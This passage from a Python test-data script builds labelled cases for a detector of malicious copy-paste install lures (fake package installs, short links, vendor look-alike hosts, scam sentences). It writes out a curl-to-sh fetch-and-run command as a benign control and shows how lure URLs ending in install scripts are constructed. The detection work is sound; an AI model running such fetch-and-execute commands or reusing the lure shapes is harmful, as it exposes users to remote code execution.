    for i, text in enumerate(PKG_LURES):
        platform = "macos" if ".pkg" in text else "linux"
        both("package-file-install", text, "malicious", STRANGE[i % len(STRANGE)], platform)
        book.add("package-file-install", text, "flagged", platform, "terminal", TUTORIALS[i % 3])
    for source, text in PKG_QUIET:
        book.add("package-file-install", text, "not_flagged", "linux", "terminal", source)

    for i, shape in enumerate(CHECK_WORDS):
        page = TENANT_PAGES[i % len(TENANT_PAGES)]
        text = shape.replace(
            "TURL",
            page.rstrip("/").rsplit("/", 1)[0] + "/i.sh" if page.count("/") > 3 else page + "i.sh",
        )
        platform = "windows" if "powershell" in text else "any"
        both("check-words", text, "malicious", page, platform)
    for source, text in CHECK_QUIET:
        book.add("check-words", text, "not_flagged", "any", "terminal", source)

    for i, (target, shape) in enumerate(VENDOR_NAME_LURES):
        page = VENDOR_NAME_PAGES[i % len(VENDOR_NAME_PAGES)]
        text = shape.replace("VURL", "https://" + page.split("/")[2] + "/i.ps1")
        book.add("vendor-name-host", text, "malicious", "windows", target, page)
        book.add("vendor-name-host-bare", text, "flagged", "windows")
    for page in VENDOR_NAME_PAGES:  # its own installer from its own page, no lure trait
        host = page.split("/")[2]
        book.add(
            "vendor-name-host",
            f"curl -fsSL https://{host}/install.sh | sh",
            "not_flagged",
            "linux",
            "terminal",
            page,
        )

    for i, text in enumerate(SHORT_LINKS):
        platform = "windows" if "iex" in text else "any"
        book.add(
            "short-link-thread", text, "malicious", platform, "terminal", SHORT_LINK_THREADS[i]
        )
    for i, text in enumerate(SHORT_LINKS):  # a tutorial quoting a short link: a warning
        page = SHORT_LINK_QUIET_PAGES[i % 2]
        book.add("short-link-tutorial", text, "suspicious", "any", "terminal", page)

    for i, text in enumerate(DEVICE_URGENT):
        book.add("device-code-urgent", text, "flagged", "any", "other" if i % 2 else "unknown")
    for text in DEVICE_QUIET:
        book.add("device-code-urgent", text, "not_flagged", "any", "other")

    for i, text in enumerate(SCAM_SENTENCES):
        book.add("scam-sentence", text, "flagged", "any", "other" if i % 2 else "unknown")
    for text in SCAM_QUIET:
        book.add("scam-sentence", text, "not_flagged", "any", "other")

    for source, text in TENANT_BRANDS:
        both("tenant-brand", text, "malicious", source, "macos")
    for source, text in TENANT_FIX:
        both("tenant-fix-name", text, "malicious", source, "macos")
    for source, text in TENANT_QUIET:
        book.add("tenant-brand", text, "not_flagged", "any", "terminal", source)

    for i, text in enumerate(EVAL_FIRST):
        both("eval-fetched", text, "malicious", STRANGE[i % len(STRANGE)], "any")
    for source, text in EVAL_QUIET:
        book.add("eval-fetched", text, "not_flagged", "any", "terminal", source)

    ids = [c["id"] for c in book.cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return book.cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
